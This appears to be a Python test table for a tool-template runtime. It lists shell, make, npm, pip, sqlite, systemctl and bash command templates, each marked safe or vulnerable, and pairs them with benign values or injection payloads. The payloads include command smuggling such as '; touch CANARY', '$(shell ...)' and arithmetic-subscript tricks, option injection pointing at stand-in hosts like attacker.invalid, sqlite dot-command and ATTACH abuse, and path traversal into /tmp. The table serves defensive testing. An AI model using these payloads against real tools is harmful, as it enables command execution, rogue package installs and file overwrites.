T("vault_read", "vault kv get -field=UTCP_ARG_field secret/app", "safe", ["field"],
  benign={"field": "password"}, expect=E("stub vault"), idiom="-field= attached")
T("vault_login_sh", "sh -c \"vault login -method=userpass username=UTCP_ARG_user\"", "exec", ["user"],
  payload={"user": "bob; touch CANARY"}, idiom="vault login inside sh -c")
T("rclone_sync", "rclone sync site \"remote:UTCP_ARG_bucket\"", "safe", ["bucket"],
  benign={"bucket": "www"}, expect=E("stub rclone"), idiom="rclone remote:prefix")
T("s3cmd_put_eval", "eval s3cmd put report.csv s3://reports/UTCP_ARG_key", "exec", ["key"],
  payload={"key": "k; touch CANARY"}, idiom="eval with unquoted command words")

# ======================= build: make npm pip python node =======================
manual("build")
T("make_target", "make UTCP_ARG_target", "exec", ["target"],
  payload={"target": "--eval=x:=$(shell touch CANARY)"}, idiom="make target becomes --eval")
T("make_case", "case UTCP_ARG_target in all|test) make UTCP_ARG_target;; *) echo 'unknown target';; esac", "safe", ["target"],
  benign={"target": "test"}, expect=E("tested"), idiom="case allowlist of targets")
T("make_var", "make all VERSION=UTCP_ARG_version", "exec", ["version"],
  payload={"version": "$(shell touch CANARY)"}, idiom="make VAR=value expanded by make recipe")
T("npm_install", "npm install UTCP_ARG_package", "option", ["package"],
  payload={"package": "--registry=http://attacker.invalid"}, check=OPT("--registry=http://attacker.invalid"), idiom="npm package becomes --registry")
T("npm_view_safe", "npm view -- UTCP_ARG_package version", "safe", ["package"],
  benign={"package": "left-pad"}, expect=E("stub npm"), idiom="npm view --")
T("npm_run_script", "npm run UTCP_ARG_script", "option", ["script"],
  payload={"script": "--script-shell=/tmp/evil"}, check=OPT("--script-shell=/tmp/evil"), idiom="npm run script name becomes --script-shell")
T("pip_install", "pip install --user UTCP_ARG_pkg", "option", ["pkg"],
  payload={"pkg": "--index-url=http://attacker.invalid/simple"}, check=OPT("--index-url=http://attacker.invalid/simple"), idiom="pip package becomes --index-url")
T("pip_install_pinned", "[[ UTCP_ARG_pkg =~ ^[A-Za-z0-9_.-]+==[0-9.]+$ ]] && pip install --user -- \"UTCP_ARG_pkg\" || echo 'use name==version'", "safe", ["pkg"],
  benign={"pkg": "requests==2.31.0"}, expect=E("stub pip"), idiom="regex guard for name==version")
T("pip_readarray", "read -ra pkgs <<< UTCP_ARG_pkg; pip install --user \"${pkgs[@]}\"", "split", ["pkg"],
  payload={"pkg": "requests --pre"}, check=SPLIT("requests", "--pre"), idiom="read -a splits one package value")
T("venv_create", "python3 -m venv \"envs/UTCP_ARG_name\" --without-pip && ls envs", "write", ["name"],
  payload={"name": "../../../../../tmp/blindA_out_venv"}, check=W("/tmp/blindA_out_venv/pyvenv.cfg"), idiom="venv in envs/NAME traversal")
T("python_version_check", "python3 -c \"import sys; assert sys.version_info >= (3, UTCP_ARG_minor); print('ok')\"", "exec", ["minor"],
  payload={"minor": "0) and __import__('os').system('touch CANARY') == 0 or (3"}, idiom="python -c with numeric value in code")
T("node_version", "node -e 'const v = process.versions.node.split(\".\")[0]; console.log(Number(v) >= Number(process.argv[1]))' UTCP_ARG_min", "exec", ["min"],
  payload={"min": "--eval=require('fs').writeFileSync('CANARY','')"}, idiom="node -e then numeric value parsed as node option")
T("script_written_run", "printf '#!/bin/sh\\necho building %s\\n' \"UTCP_ARG_project\" > build.sh && sh build.sh", "exec", ["project"],
  payload={"project": "p; touch CANARY"}, idiom="value written into a script then run")
T("env_file_sourced", "echo \"export APP_NAME=UTCP_ARG_name\" > .env.sh && . ./.env.sh && echo \"${APP_NAME:-}\"", "exec", ["name"],
  payload={"name": "x; touch CANARY"}, idiom="value written into env file then sourced")
T("env_file_quoted", "printf 'export APP_NAME=%q\\n' UTCP_ARG_name > .env.sh && . ./.env.sh && echo \"${APP_NAME:-}\"", "safe", ["name"],
  benign={"name": "my app"}, expect=E("my app"), idiom="printf %q into env file then sourced")
T("gen_version_file", "echo UTCP_ARG_version > VERSION && cat VERSION", "safe", ["version"],
  benign={"version": "1.2.3"}, expect=E("1.2.3"), idiom="echo value > fixed file")

# ======================= db: sqlite3 psql mysql =======================
manual("db")
T("sqlite_user", "sqlite3 app.db \"select id, name from users where name = 'UTCP_ARG_name'\"", "write", ["name"],
  payload={"name": "x'; ATTACH DATABASE '/tmp/blindA_out_sqlite' AS p; CREATE TABLE p.t(a); --"}, check=W("/tmp/blindA_out_sqlite"),
  idiom="SQL string in sqlite3 argument (ATTACH writes a file)")
T("sqlite_stdin", "echo \"select count(*) from users where name = 'UTCP_ARG_name';\" | sqlite3 app.db", "exec", ["name"],
  payload={"name": "x';\n.shell touch CANARY\nselect '1"}, idiom="SQL piped to sqlite3 stdin (dot-commands)")
T("sqlite_heredoc", "sqlite3 app.db <<SQL\nselect name from users where id = UTCP_ARG_id;\nSQL\n", "exec", ["id"],
  payload={"id": "1\";\n.system touch CANARY\nselect \"1"}, idiom="unquoted heredoc SQL")
T("sqlite_python_param", "python3 -c 'import sqlite3,sys; print(sqlite3.connect(\"app.db\").execute(\"select id from users where name=?\", (sys.argv[1],)).fetchall())' UTCP_ARG_name", "safe", ["name"],
  benign={"name": "bob"}, expect=E("2"), idiom="python sqlite3 bound parameter")
T("sqlite_numeric_guard", "case UTCP_ARG_id in ''|*[!0-9]*) echo 'id must be numeric';; *) sqlite3 app.db \"select name from users where id = UTCP_ARG_id\";; esac", "safe", ["id"],
  benign={"id": "2"}, expect=E("bob"), idiom="case numeric guard then SQL")
T("sqlite_newdb", "mkdir -p data && sqlite3 \"data/UTCP_ARG_db.sqlite\" 'create table if not exists kv(k text, v text);' && echo ok", "write", ["db"],
  payload={"db": "../../../blindA_out_newdb"}, check=W("/tmp/blindA_out_newdb.sqlite"), idiom="sqlite3 database path traversal")
T("sqlite_export_csv", "mkdir -p exports && sqlite3 -csv app.db 'select * from users' > \"exports/UTCP_ARG_file.csv\" && echo ok", "write", ["file"],
  payload={"file": "../../../../../tmp/blindA_out_csv"}, check=W("/tmp/blindA_out_csv.csv"), idiom="redirect to exports/FILE traversal")
T("psql_db", "psql -h 127.0.0.1 UTCP_ARG_db -c 'select 1'", "option", ["db"],
  payload={"db": "-o/tmp/blindA_out_psql"}, check=OPT("-o/tmp/blindA_out_psql"), idiom="psql dbname becomes -o")
T("redis_get", "redis-cli -h 127.0.0.1 GET UTCP_ARG_key", "option", ["key"],
  payload={"key": "-x"}, check=OPT("-x"), idiom="redis-cli key becomes option")

# ======================= media: convert ffmpeg (stubs) =======================
manual("media")
T("img_resize", "convert UTCP_ARG_input -resize 50% thumbs/out.png", "option", ["input"],
  payload={"input": "-write=/tmp/x"}, check=OPT("-write=/tmp/x"), idiom="convert input becomes option")
T("img_resize_safe", "convert \"uploads/UTCP_ARG_input\" -resize 50% thumbs/out.png", "safe", ["input"],
  benign={"input": "a.png"}, expect=E("stub convert"), idiom="convert with uploads/ prefix")
T("ffmpeg_transcode", "ffmpeg -y -i UTCP_ARG_input -c:v libx264 out.mp4", "safe", ["input"],
  benign={"input": "in.mov"}, expect=E("stub ffmpeg"), opt_ok=True, idiom="ffmpeg -i value is option-argument")
T("ffmpeg_output", "ffmpeg -y -i in.mov UTCP_ARG_output", "option", ["output"],
  payload={"output": "-dump_attachment:t:0=/tmp/x"}, check=OPT("-dump_attachment:t:0=/tmp/x"), idiom="ffmpeg output becomes option")
T("ffmpeg_batch", "for f in *.mov; do ffmpeg -i \"$f\" -s UTCP_ARG_size \"${f%.mov}.mp4\"; done", "broken", ["size"],
  payload={"size": "640x360"}, check=NOTFOUND(), idiom="$f loop var substituted by client")
T("thumb_name", "mkdir -p thumbs && convert site/index.html \"thumbs/UTCP_ARG_name.png\" && touch \"thumbs/UTCP_ARG_name.png\" && ls thumbs", "write", ["name"],
  payload={"name": "../../../../../tmp/blindA_out_thumb"}, check=W("/tmp/blindA_out_thumb.png"), idiom="thumbs/NAME traversal")

# ======================= sys: systemctl crontab sudo timeout date env gpg =======================
manual("sys")
T("svc_restart", "systemctl restart UTCP_ARG_unit", "option", ["unit"],
  payload={"unit": "--host=attacker@evil"}, check=OPT("--host=attacker@evil"), idiom="systemctl unit becomes --host")
T("svc_case", "case UTCP_ARG_action in start|stop|restart|status) systemctl UTCP_ARG_action nginx.service;; *) echo 'unsupported action';; esac", "safe", ["action"],
  benign={"action": "status"}, expect=E("stub systemctl"), idiom="case allowlist of actions")
T("svc_status_units", "for u in UTCP_ARG_units; do systemctl is-active \"${u:-}\"; done", "broken", ["units"],
  payload={"units": "nginx redis"}, check=OPT("nginx redis"), idiom="for loop over a list value runs once (value quoted by runtime)")
T("sudo_as_user", "sudo -u UTCP_ARG_user whoami", "safe", ["user"], benign={"user": "deploy"}, expect=E("stub sudo"), opt_ok=True,
  idiom="sudo -u value")
T("sudo_cmd", "sudo -n UTCP_ARG_command", "option", ["command"], payload={"command": "--shell"}, check=OPT("--shell"),
  idiom="sudo command name becomes option")
T("timeout_grep", "timeout 5 grep -c -F -e UTCP_ARG_text notes.txt", "safe", ["text"], benign={"text": "beta"}, expect=E("2"),
  idiom="timeout grep -e")
T("timeout_sh", "timeout 10 sh -c 'grep -c UTCP_ARG_text notes.txt'", "exec", ["text"], payload={"text": "x notes.txt; touch CANARY; #"},
  idiom="timeout sh -c with value in code")
T("date_fmt", "date -u -d UTCP_ARG_when +%Y-%m-%d", "safe", ["when"], benign={"when": "2024-02-03"}, expect=E("2024-02-03"),
  idiom="date -d value")
T("date_file", "date -u UTCP_ARG_fmt", "option", ["fmt"], payload={"fmt": "--file=notes.txt"},
  check=lambda c: ("alpha" in c.out, "value parsed as date --file: reads an unintended file and echoes its lines"), idiom="date format becomes --file")
T("env_run", "env UTCP_ARG_assign printenv APP_MODE", "exec", ["assign"], payload={"assign": "-Ssh -c 'touch CANARY' x"},
  idiom="env NAME=value slot becomes -S (split-string) command")
T("env_assign_prefix", "env \"APP_MODE=UTCP_ARG_mode\" printenv APP_MODE", "safe", ["mode"], benign={"mode": "debug"}, expect=E("debug"),
  idiom="env with NAME= prefix")
T("gpg_encrypt", "printf '%s' UTCP_ARG_secret | gpg --batch --yes --passphrase pass --symmetric --armor 2>/dev/null | head -1", "safe", ["secret"],
  benign={"secret": "s3cr3t"}, expect=E("BEGIN PGP"), idiom="printf | gpg symmetric")
T("gpg_out", "mkdir -p sealed && printf 'x' | gpg --batch --yes --passphrase pass --symmetric -o \"sealed/UTCP_ARG_name.gpg\" 2>/dev/null && echo ok", "write", ["name"],
  payload={"name": "../../../../../tmp/blindA_out_gpg"}, check=W("/tmp/blindA_out_gpg.gpg"), idiom="gpg -o sealed/NAME traversal")
T("printf_banner", "printf \"Deploying UTCP_ARG_app...\\n\"", "safe", ["app"], benign={"app": "web"}, expect=E("Deploying web"),
  idiom="value inside printf format string (no %n in bash)")
T("watch_once", "timeout 3 sh -c \"kubectl get pods -l app=UTCP_ARG_app\"", "exec", ["app"], payload={"app": "web; touch CANARY"},
  idiom="command string for a watcher evaluated by sh")
T("home_config", "cat $HOME/.config/app/settings.ini 2>/dev/null || echo UTCP_ARG_default", "broken", ["default"],
  payload={"default": "none"}, check=NOTFOUND(), idiom="$HOME substituted by client")
T("workdir_missing", "ls UTCP_ARG_sub", "broken", ["sub"], payload={"sub": "."}, wd="/srv/app/current",
  check=lambda c: (c.exc is not None, f"working_dir does not exist: {c.exc!r}"[:200]), idiom="working_dir that does not exist")

# ======================= shell: bash idioms =======================
manual("shell")
T("arith_minutes", "echo $(( UTCP_ARG_hours * 60 ))", "exec", ["hours"], payload={"hours": "a[$(touch CANARY)]"},
  idiom="$(( )) arithmetic on value")
T("arith_guarded", "[[ UTCP_ARG_hours =~ ^[0-9]+$ ]] && echo $(( UTCP_ARG_hours * 60 )) || echo 'hours must be an integer'", "safe", ["hours"],
  benign={"hours": "2"}, expect=E("120"), idiom="regex guard then arithmetic, same step")
T("arith_guard_split", ["[[ UTCP_ARG_hours =~ ^[0-9]+$ ]] || exit 1", "echo $(( UTCP_ARG_hours * 60 ))"], "exec", ["hours"],
  payload={"hours": "a[$(touch CANARY)]"}, idiom="guard in its own step (exit only leaves that step's subshell)")
T("test_gt", "[ UTCP_ARG_n -gt 0 ] && echo positive || echo 'not positive'", "safe", ["n"], benign={"n": "5"}, expect=E("positive"),
  idiom="[ -gt ] (test builtin does not evaluate expressions)")
T("declare_int", "declare -i total=UTCP_ARG_count+1; echo \"${total}\"", "broken", ["count"], payload={"count": "2"}, check=NOTFOUND(),
  idiom="${total} substituted by client")
T("declare_int_ok", "declare -i total=UTCP_ARG_count+1; echo \"${total:-}\"", "exec", ["count"], payload={"count": "a[$(touch CANARY)]"},
  idiom="declare -i arithmetic on value")
T("let_counter", "let n=UTCP_ARG_start+1; echo \"${n:-}\"", "exec", ["start"], payload={"start": "a[$(touch CANARY)]"}, idiom="let arithmetic")
T("array_index", "ports=(80 443 8080); echo \"${ports[UTCP_ARG_i]}\"", "exec", ["i"], payload={"i": "a[$(touch CANARY)]"},
  idiom="array subscript from value")
T("printf_v", "printf -v UTCP_ARG_var '%s' done; echo ok", "exec", ["var"], payload={"var": "a[$(touch CANARY)]"},
  idiom="printf -v with variable name from value")
T("read_fields", "IFS=, read -r first second <<< UTCP_ARG_pair; echo \"${second:-}\"", "safe", ["pair"], benign={"pair": "a,b"}, expect=E("b"),
  idiom="read -r from here-string")
T("mapfile_lines", "mapfile -t lines < <(grep -F -- UTCP_ARG_text notes.txt); echo \"${#lines[@]}\"", "safe", ["text"],
  benign={"text": "beta"}, expect=E("2"), idiom="mapfile from process substitution")
T("func_positional", "count() { grep -c -F -- \"${1:-}\" notes.txt; }; count UTCP_ARG_word", "safe", ["word"], benign={"word": "beta"},
  expect=E("2"), idiom="function with ${1:-}")
T("func_dollar1", "count() { grep -c -F -- \"$1\" notes.txt; }; count UTCP_ARG_word", "broken", ["word"], payload={"word": "beta"},
  check=NOTFOUND(), idiom="function $1 substituted by client")
T("func_eval", "run() { eval \"grep -c ${1:-} notes.txt\"; }; run UTCP_ARG_word", "exec", ["word"], payload={"word": "x /dev/null; touch CANARY"},
  idiom="function that evals its argument")
T("bash_c_positional", "bash -c 'grep -c -F -- \"${1:-}\" notes.txt' _ UTCP_ARG_word", "safe", ["word"], benign={"word": "beta"}, expect=E("2"),
  idiom="bash -c with ${1:-} positional")
T("bash_c_dollar1", "bash -c 'grep -c -F -- \"$1\" notes.txt' _ UTCP_ARG_word", "broken", ["word"], payload={"word": "beta"}, check=NOTFOUND(),
  idiom="bash -c $1 substituted by client")
T("sh_c_unquoted_pos", "sh -c 'ls -d ${1:-}' _ UTCP_ARG_path", "split", ["path"], payload={"path": "logs site"},
  check=lambda c: ("logs" in c.out and "site" in c.out and "No such" not in c.out, f"unquoted ${{1:-}} splits one path into two: {c.out!r}"), idiom="sh -c with unquoted ${1:-}")
T("printf_q_eval", "eval \"grep -c -F -- $(printf %q UTCP_ARG_word) notes.txt\"", "split", ["word"], payload={"word": "be ta"},
  check=OUTHAS("2", "printf %q inside \"$( )\" gets the value unquoted: 'be ta' is split into be/ta and rejoined, grep counts 'beta' lines"),
  idiom="eval with printf %q inside \"$( )\" (tracker leaves value unquoted)")
T("eval_plain", "eval \"grep -c -F -- UTCP_ARG_word notes.txt\"", "exec", ["word"], payload={"word": "x /dev/null; touch CANARY"},
  idiom="eval of double-quoted command")
T("source_procsub", "source <(printf 'export TAG=%s\\n' UTCP_ARG_tag); echo \"${TAG:-}\"", "exec", ["tag"], payload={"tag": "x; touch CANARY"},
  idiom="source <(printf ...) of a value")
T("diff_procsub", "diff <(sort -- UTCP_ARG_a) <(sort -- UTCP_ARG_b) && echo same", "safe", ["a", "b"], benign={"a": "notes.txt", "b": "notes.txt"},
  expect=E("same"), idiom="diff of two process substitutions")
T("bash_heredoc", "bash <<EOF\necho \"Hello, UTCP_ARG_name\"\nEOF\n", "exec", ["name"], payload={"name": "$(touch CANARY)"},
  idiom="unquoted heredoc fed to bash")
T("heredoc_quoted_delim", "cat <<'EOF' > greet.sh\necho \"Hello, ${1:-}\"\nEOF\nbash greet.sh UTCP_ARG_name", "safe", ["name"], benign={"name": "ann"},
  expect=E("Hello, ann"), idiom="quoted heredoc script run with argument")
T("heredoc_apostrophe", "cat <<EOF\nDon't forget: UTCP_ARG_item\nEOF\n", "broken", ["item"], payload={"item": "milk"},
  check=OUTHAS("'\"milk\"'", "apostrophe in heredoc flips the runtime's quote tracker: value printed with stray quotes"), idiom="apostrophe in heredoc body")
T("comment_apostrophe", "# don't echo secrets\necho \"user: UTCP_ARG_user\"", "broken", ["user"], payload={"user": "ann"},
  check=OUTLACKS("user: ann", "apostrophe in a comment leaves the tracker in single-quote mode"), idiom="apostrophe in a comment line")
T("ansi_c_quote", "printf $'%s\\'s report\\n' UTCP_ARG_name", "broken", ["name"], payload={"name": "ann"},
  check=OUTLACKS("ann's report", "$'...\\'...' confuses the tracker"), idiom="$'...' string with escaped quote")
T("local_outside", "local name=UTCP_ARG_name; echo \"${name:-}\"", "broken", ["name"], payload={"name": "ann"},
  check=OUTLACKS("ann", "local outside a function fails"), idiom="local outside a function")
T("case_glob_eval", "case UTCP_ARG_mode in fast|slow) eval \"echo mode=UTCP_ARG_mode\";; *) echo bad;; esac", "safe", ["mode"],
  benign={"mode": "fast"}, expect=E("mode=fast"), idiom="eval only after case allowlist")
T("getopts_like", "set -- UTCP_ARG_flag; echo \"args: $#\"", "safe", ["flag"], benign={"flag": "-v"}, expect=E("args: 1"),
  idiom="set -- value ($# not substituted)")
T("random_name", "echo \"tmp-$RANDOM-UTCP_ARG_suffix\"", "broken", ["suffix"], payload={"suffix": "x"}, check=NOTFOUND(),
  idiom="$RANDOM substituted by client")
T("trap_cleanup", "tmp=$(mktemp -d); trap 'rm -rf \"${tmp:-}\"' EXIT; cp -- notes.txt \"${tmp:-}/\" && grep -c -F -- UTCP_ARG_w \"${tmp:-}/notes.txt\"", "safe", ["w"],
  benign={"w": "beta"}, expect=E("2"), idiom="mktemp + trap; value after --")

# ======================= pipes: multi-step with earlier outputs =======================
manual("pipes")
T("latest_tag_then_log", ["git -C repo describe --tags --abbrev=0", "git -C repo log --oneline \"${CMD_0_OUTPUT:-}\"..HEAD -- UTCP_ARG_path"], "safe", ["path"],
  benign={"path": "README.md"}, expect=EANY(), idiom="step output quoted with ${CMD_0_OUTPUT:-}")
T("latest_tag_braced", ["git -C repo describe --tags --abbrev=0", "git -C repo log --oneline \"${CMD_0_OUTPUT}\"..HEAD -- UTCP_ARG_path"], "broken", ["path"],
  payload={"path": "README.md"}, check=NOTFOUND(), idiom="${CMD_0_OUTPUT} braced still substituted by client")
T("count_then_eval", ["grep -c -F -- UTCP_ARG_word notes.txt", "eval \"echo found ${CMD_0_OUTPUT:-} matches for UTCP_ARG_word\""], "exec", ["word"],
  payload={"word": "x; touch CANARY"}, idiom="eval in second step with value")
T("pod_then_exec", ["kubectl get pods -l \"app=UTCP_ARG_app\" -o name", "sh -c \"kubectl logs ${CMD_0_OUTPUT:-} --since=UTCP_ARG_since\""], "exec", ["app", "since"],
  payload={"app": "web", "since": "1h; touch CANARY"}, idiom="sh -c in second step")
T("id_then_stop", ["docker ps -q --filter \"name=UTCP_ARG_name\"", "docker stop ${CMD_0_OUTPUT:-}"], "safe", ["name"],
  benign={"name": "web"}, expect=E("stub docker"), idiom="unquoted step output of fixed stub text (value only in quoted filter)")
T("sum_then_arith", ["wc -l < notes.txt", "echo $(( ${CMD_0_OUTPUT:-0} + UTCP_ARG_extra ))"], "exec", ["extra"],
  payload={"extra": "a[$(touch CANARY)]"}, idiom="arithmetic with earlier output and value")
T("resolve_then_cat", ["realpath -m -- \"reports/UTCP_ARG_name\"", "mkdir -p reports && echo report > \"${CMD_0_OUTPUT:-}\" && echo written"], "write", ["name"],
  payload={"name": "../../../../../tmp/blindA_out_realpath"}, check=W("/tmp/blindA_out_realpath"), idiom="realpath without a containment check")
T("resolve_checked", ["realpath -m -- \"reports/UTCP_ARG_name\"", "case \"${CMD_0_OUTPUT:-}\" in \"$(pwd)/reports/\"*) mkdir -p reports && echo report > \"${CMD_0_OUTPUT:-}\" && echo written;; *) echo 'outside reports';; esac"],
  "safe", ["name"], benign={"name": "r1.txt"}, expect=E("written"), idiom="realpath + case containment check")
T("list_then_xargs", ["printf '%s\\n' UTCP_ARG_files", "printf '%s\\n' \"${CMD_0_OUTPUT:-}\" | xargs ls -d"], "split", ["files"],
  payload={"files": "logs site"}, check=lambda c: ("logs" in c.out and "site" in c.out and "No such" not in c.out, f"xargs splits one value into two paths: {c.out!r}"),
  idiom="step output piped to xargs")
T("list_then_xargs0", ["printf '%s' UTCP_ARG_file", "printf '%s\\0' \"${CMD_0_OUTPUT:-}\" | xargs -0 ls -d --"], "safe", ["file"],
  benign={"file": "logs"}, expect=E("logs"), idiom="step output piped to xargs -0")
T("json_then_jq", ["curl -fsS http://127.0.0.1:8765/data.json", "printf '%s' \"${CMD_0_OUTPUT:-}\" | jq -r \".items[] | select(.tag == \\\"UTCP_ARG_tag\\\") | .id\""], "safe", ["tag"],
  benign={"tag": "b"}, expect=E("2"), idiom="curl then jq filter built with value (jq cannot run commands)")
T("host_then_ssh", ["printf '%s' UTCP_ARG_host", "ssh ${CMD_0_OUTPUT:-} uptime"], "split", ["host"],
  payload={"host": "web1 reboot"}, check=SPLIT("web1", "reboot"), idiom="unquoted step output as ssh host")
T("cmd_output_plain", ["date -u +%F", "mkdir -p reports && echo UTCP_ARG_note > \"reports/$CMD_0_OUTPUT.txt\""], "broken", ["note"],
  payload={"note": "ok"}, check=NOTFOUND(), idiom="$CMD_0_OUTPUT in file name")
T("tmpfile_then_run", ["printf 'echo %s\\n' \"UTCP_ARG_msg\" > step.sh && echo prepared", "bash step.sh"], "exec", ["msg"],
  payload={"msg": "hi; touch CANARY"}, idiom="value written to script in one step, run in the next")

_cur = "pipes"
T("git_author_subst", "git -C repo log --oneline $(printf -- '--author=%s' UTCP_ARG_author)", "split", ["author"],
  payload={"author": "t smith"}, check=OUTHAS("smith", "unquoted $(printf) splits one author into '--author=t' and 'smith' (git: ambiguous argument)"),
  idiom="unquoted $(printf --author=...)")
T("xargs_tag_newline", "printf '%s\\n' UTCP_ARG_tag | xargs -I{} docker tag web {}", "split", ["tag"],
  payload={"tag": "v1\nv2"}, check=SPLIT("v1", "v2"), idiom="xargs -I{} runs once per line of the value")
T("curl_printf_unquoted", "curl -fsS $(printf 'http://127.0.0.1:8765/%s' UTCP_ARG_path)", "split", ["path"],
  payload={"path": "data.json -o/tmp/blindA_out_curlsplit"}, check=W("/tmp/blindA_out_curlsplit"),
  idiom="unquoted $(printf url) splits path into extra curl args")
T("tar_unquoted_dir", "mkdir -p backups && tar -czf backups/dir.tgz $(printf '%s' UTCP_ARG_dir) && tar -tzf backups/dir.tgz", "split", ["dir"],
  payload={"dir": "logs notes.txt"}, check=OUTHAS("notes.txt", "unquoted $(printf) splits one directory into two archive members"),
  idiom="unquoted $(printf dir) as tar member")
